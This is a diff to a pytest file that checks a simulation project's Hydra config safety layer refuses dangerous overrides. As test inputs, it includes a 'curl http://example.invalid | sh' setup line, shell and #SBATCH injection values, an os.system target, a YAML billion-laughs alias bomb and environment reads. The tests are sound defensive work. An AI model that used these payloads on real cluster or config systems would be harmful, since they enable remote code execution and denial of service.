@@ -2,6 +2,7 @@
 outside the job's folder, or hang the reader; each is refused with its key and exit 2.
 (tests/broken_configs/experiment/ holds one preset per hole, checked in tests/test_sweeps.py.)"""
 
+import os
 import subprocess
 import sys
 import time
@@ -9,9 +10,10 @@ import time
 import pytest
 from hydra import compose, initialize_config_dir
 
+import sim as sim_api
 from sim.domain.errors import ConfigError
 from sim.experiment.config import CONFIGS, register
-from sim.experiment.safety import MAX_FILE_BYTES, check_composed
+from sim.experiment.safety import MAX_FILE_BYTES, check_composed, read_config
 
 
 def sim(*args, cwd=None):
@@ -100,6 +102,9 @@ def test_the_project_own_configs_pass_under_every_launcher(launcher):
         ("hydra.sweeper._target_=os.system", "hydra.sweeper._target_"),
         ("scenario.name=${oc.decode:'1'}", "scenario.name"),
         ("hydra.output_subdir=/tmp/elsewhere", "hydra.output_subdir"),
+        ("hydra.job.config.override_dirname.item_sep=/", "hydra.job.config.override_dirname.item_sep"),
+        ("hydra.job.env_copy=[HOME]", "hydra.job.env_copy"),
+        ("hydra.launcher.temp_folder=/etc", "hydra.launcher.temp_folder"),
         ("hydra.sweep.subdir=../../elsewhere", "hydra.sweep.subdir"),
     ],
 )
@@ -110,3 +115,77 @@ def test_logging_and_plugin_settings_that_would_run_code_are_refused(override, k
     with pytest.raises(ConfigError) as err:
         check_composed(cfg)
     assert err.value.key == key
+
+
+@pytest.mark.parametrize(
+    ("override", "key"),
+    [
+        ("hydra.launcher.setup=['curl http://example.invalid | sh']", "hydra.launcher.setup"),
+        ("+hydra.launcher.additional_parameters={wrap: id}", "hydra.launcher.additional_parameters"),
+        ("hydra.launcher.partition='short\n#SBATCH --wrap=id'", "hydra.launcher.partition"),
+        ("hydra.launcher.account='a;id'", "hydra.launcher.account"),
+        ("hydra.launcher.submitit_folder=/tmp/x/%j", "hydra.launcher.submitit_folder"),
+        ("hydra.launcher.cpus_per_task=0", "hydra.launcher.cpus_per_task"),
+    ],
+)
+def test_cluster_settings_that_would_reach_the_sbatch_script_are_refused(override, key):
+    """The slurm launcher writes these into a shell script: shell lines, extra #SBATCH
+    directives and anything that is not one plain word are refused."""
+    register()
+    with initialize_config_dir(config_dir=CONFIGS, version_base="1.3"):
+        cfg = compose("config", overrides=["hydra/launcher=slurm", override], return_hydra_config=True)
+    with pytest.raises(ConfigError) as err:
+        check_composed(cfg)
+    assert err.value.key == key
+
+
+def test_a_searchpath_folder_is_checked_before_hydra_reads_it(tmp_path):
+    bomb = tmp_path / "extra" / "scenario"
+    bomb.mkdir(parents=True)
+    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
+    levels += [f"a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 9)}]" for k in range(1, 10)]
+    (bomb / "laughs.yaml").write_text("\n".join(levels) + "\n")
+    start = time.perf_counter()
+    done = sim(f"hydra.searchpath=[file://{bomb.parent}]", "scenario=laughs", f"hydra.run.dir={tmp_path}/out")
+    assert time.perf_counter() - start < 10
+    assert done.returncode == 2 and "aliases expand" in done.stderr, done.stderr[-800:]
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("kind", ["folder", "fifo", "device", "latin1"])
+def test_special_and_non_utf8_files_in_a_config_folder_are_refused_unread(tmp_path, kind):
+    folder = tmp_path / "configs" / "scenario"
+    folder.mkdir(parents=True)
+    path = folder / "odd.yaml"
+    if kind == "folder":
+        path.mkdir()
+    elif kind == "fifo":
+        os.mkfifo(path)
+    elif kind == "device":
+        path.symlink_to("/dev/zero")
+    else:
+        path.write_bytes("name: caf\u00e9\n".encode("latin-1"))
+    start = time.perf_counter()
+    done = sim("--config-dir", str(folder.parent), f"hydra.run.dir={tmp_path}/out")
+    assert time.perf_counter() - start < 10
+    assert done.returncode == 2 and str(path) in done.stderr, done.stderr[-800:]
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize(
+    "override",
+    ["scenario.name=${oc.env:HOME}", "scenario.departments.market.reviewers=${oc.env:SHLVL}"],
+)
+def test_load_scenario_resolves_no_environment(override):
+    with pytest.raises(ConfigError) as err:
+        sim_api.load_scenario("restaurant", [override])
+    assert "oc.env" in str(err.value)
+
+
+def test_a_results_folder_is_read_as_untrusted_data(tmp_path):
+    """A shared results folder whose saved config reads the environment is refused, unresolved."""
+    (tmp_path / "job" / ".hydra").mkdir(parents=True)
+    (tmp_path / "job" / ".hydra" / "config.yaml").write_text("scenario:\n  name: ${oc.env:HOME}\n")
+    with pytest.raises(ConfigError) as err:
+        read_config(tmp_path / "job" / ".hydra" / "config.yaml")
+    assert err.value.key == "scenario.name"
